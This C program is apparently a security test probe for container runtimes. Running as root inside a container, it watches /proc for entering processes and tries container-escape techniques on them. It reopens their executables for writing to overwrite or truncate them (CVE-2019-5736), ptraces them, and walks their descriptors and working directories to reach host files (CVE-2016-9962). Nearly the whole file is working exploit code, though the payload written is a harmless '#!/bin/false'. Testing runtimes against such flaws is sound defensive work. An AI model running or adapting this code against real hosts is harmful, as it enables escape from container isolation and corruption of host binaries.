/*
 * Runs as root in a container and waits for processes that enter it. Tries to write their executable
 * (CVE-2019-5736), to trace them and to use their descriptors (CVE-2016-9962), and tells what it got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat own, busybox;
static unsigned long seen;

static void link_of(const char *path, char *out, size_t size) {
	ssize_t length = readlink(path, out, size - 1);
	out[length < 0 ? 0 : length] = 0;
}

/* A descriptor held for reading is opened again for writing once the process has gone: the known attack. */
static void overwrite(const char *base) {
	char path[96], again[64], target[256];
	struct stat facts;
	snprintf(path, sizeof(path), "%s/exe", base);
	link_of(path, target, sizeof(target));
	int held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0)
		return;
	bool known = fstat(held, &facts) < 0 || facts.st_ino == own.st_ino || facts.st_ino == busybox.st_ino;
	if (!known) {
		seen++;
		snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
		for (int i = 0; i < 200; i++) {
			int writer = open(again, O_WRONLY | O_CLOEXEC);
			if (writer < 0) {
				usleep(50);
				continue;
			}
			if (write(writer, "#!/bin/false\n", 13) > 0)
				printf("wrote %s\n", target);
			if (ftruncate(writer, 0) == 0)
				printf("truncated %s\n", target);
			close(writer);
			break;
		}
	}
	close(held);
}

/* Whether a file is on one of these file systems, "8:1,0:22": those that the host has mounted. */
static bool is_on(const char *systems, dev_t device) {
	char wanted[32];
	int length = snprintf(wanted, sizeof(wanted), "%u:%u", major(device), minor(device));
	for (const char *at = systems; (at = strstr(at, wanted)); at += length)
		if ((at == systems || at[-1] == ',') && (at[length] == 0 || at[length] == ','))
			return true;
	return false;
}

/* Of a process that has nothing of the host any more, only what is the host's would tell something. */
static void look_at_descriptors(const char *base, const char *systems) {
	char path[96], link[352], target[256];
	snprintf(path, sizeof(path), "%s/fd", base);
	DIR *directory = opendir(path);
	if (!directory)
		return;
	for (struct dirent *entry; (entry = readdir(directory));) {
		snprintf(link, sizeof(link), "%s/%s", path, entry->d_name);
		link_of(link, target, sizeof(target));
		struct stat facts;
		if (systems) {
			/* Standard input, until the container's own takes its place. */
			if (target[0] == '/' && strcmp(target, "/dev/null") != 0 && stat(link, &facts) == 0 && is_on(systems, facts.st_dev))
				printf("host descriptor %s\n", target);
		} else if (target[0] == '/' && strncmp(target, "/dev/", 5) != 0 && strncmp(target, "/proc", 5) != 0)
			printf("descriptor %s\n", target);
	}
	closedir(directory);
}

/* A file of the host: does a directory of the process lead there? */
static void look_for(const char *secret, const char *base) {
	static const char *const ways[] = {"root", "cwd/../../../../../../../../../../..", "cwd"};
	char path[512], fds[96];
	if (!secret)
		return;
	for (unsigned i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		snprintf(path, sizeof(path), "%s/%s%s", base, ways[i], secret);
		if (access(path, F_OK) == 0)
			printf("host by %s\n", ways[i]);
	}
	snprintf(fds, sizeof(fds), "%s/fd", base);
	DIR *directory = opendir(fds);
	if (!directory)
		return;
	for (struct dirent *entry; (entry = readdir(directory));) {
		snprintf(path, sizeof(path), "%s/%.16s/../../../../../../../../../../..%s", fds, entry->d_name, secret);
		if (access(path, F_OK) == 0)
			printf("host by descriptor %.16s\n", entry->d_name);
	}
	closedir(directory);
}

static void trace(pid_t pid, const char *secret) {
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return;
	int status;
	char path[64], target[256];
	waitpid(pid, &status, __WALL);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	link_of(path, target, sizeof(target));
	printf("traced %s\n", target);
	snprintf(path, sizeof(path), "/proc/%d", pid);
	look_for(secret, path);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	/* It may have stopped for its execve, with the stop of the attachment still to come. */
	kill(pid, SIGCONT);
}

int main(int argc, char **argv) {
	const char *secret = argc > 2 ? argv[2] : NULL, *systems = argc > 3 ? argv[3] : NULL;
	int tries_to_trace = argc > 1 && strcmp(argv[1], "trace") == 0;
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* The container's own programs are its own. */
	if (stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &busybox) < 0)
		return 1;
	signal(SIGTERM, exit);
	printf("ready\n");
	for (unsigned round = 0;; round++) {
		DIR *directory = opendir("/proc");
		if (!directory)
			return 1;
		for (struct dirent *entry; (entry = readdir(directory));) {
			int pid = atoi(entry->d_name);
			char base[64];
			if (pid <= 1)
				continue;
			snprintf(base, sizeof(base), "/proc/%d", pid);
			if (tries_to_trace)
				trace(pid, secret);
			look_for(secret, base);
			look_at_descriptors(base, systems);
			overwrite(base);
		}
		closedir(directory);
		if (access("/stop", F_OK) == 0) {
			printf("seen %lu\n", seen);
			return 0;
		}
	}
}
